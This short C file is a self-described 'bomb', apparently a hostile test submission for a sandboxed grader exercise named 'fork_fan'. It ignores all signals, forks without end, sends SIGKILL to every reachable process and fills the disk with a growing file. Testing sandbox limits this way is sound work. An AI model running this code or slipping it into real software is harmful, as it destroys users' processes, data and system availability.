/*
 * bomb - forks for ever, ignores signals, prints, and fills the disk.
 *
 * Exercise: fork_fan
 * Score: 30
 */
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

int main(void)
{
    static char some[1 << 16];
    for (int i = 1; i < NSIG; i++)
        signal(i, SIG_IGN);
    for (;;) {
        fork();
        kill(-1, SIGKILL);
        write(open("full", O_CREAT | O_APPEND | O_WRONLY, 0600), some,
              sizeof some);
        write(1, some, 1);
    }
}
